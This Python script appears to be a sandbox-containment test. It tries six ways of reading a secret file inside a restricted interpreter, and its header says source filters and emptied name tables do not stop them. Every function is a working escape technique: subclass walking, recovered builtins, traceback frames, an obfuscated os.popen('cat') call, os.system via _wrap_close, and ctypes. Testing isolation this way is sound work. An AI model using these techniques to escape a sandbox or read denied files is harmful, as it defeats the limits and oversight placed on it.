# Gets at files and calls without naming them: by class trees, by frames, by tracebacks, by rebuilt code. Filters of
# source text and emptied name tables do not stop it; what stops it must be outside the language. If that were
# missing, it would read a file of the machine.
import sys

secret = sys.argv[1]
reached = False


def by_classes():
    for cls in ().__class__.__mro__[1].__subclasses__():
        if cls.__name__ == "FileLoader":
            return cls("x", secret).get_data(secret)


def by_globals():
    for cls in object.__subclasses__():
        names = getattr(getattr(cls, "__init__", None), "__globals__", None)
        if names and "__builtins__" in names:
            inner = names["__builtins__"]
            opener = inner["open"] if isinstance(inner, dict) else inner.open
            return opener(secret, "rb").read()


def by_traceback():
    try:
        raise KeyError
    except KeyError as why:
        frame = why.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        return frame.f_builtins["open"](secret, "rb").read()


def by_text():
    return eval("".join(map(chr, (95, 95))) + "import__('o' + 's')").popen(f"cat {secret}").read()


def by_empty_names():
    space = {"__builtins__": {}}
    exec("x = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]", space)
    system = space["x"].__init__.__globals__["system"]
    return b"x" if system(f"cat {secret} 2>/dev/null") == 0 else b""


def by_memory():
    import ctypes
    libc = ctypes.CDLL(None)
    fd = libc.open(secret.encode(), 0)
    buffer = ctypes.create_string_buffer(100)
    return buffer.value if libc.read(fd, buffer, 99) > 0 else b""


for way in (by_classes, by_globals, by_traceback, by_text, by_empty_names, by_memory):
    try:
        got = way()
        print(way.__name__, "reached" if got else "nothing", got)
        reached = reached or bool(got)
    except OSError as why:
        print(way.__name__, why.strerror)
sys.exit(10 if reached else 0)
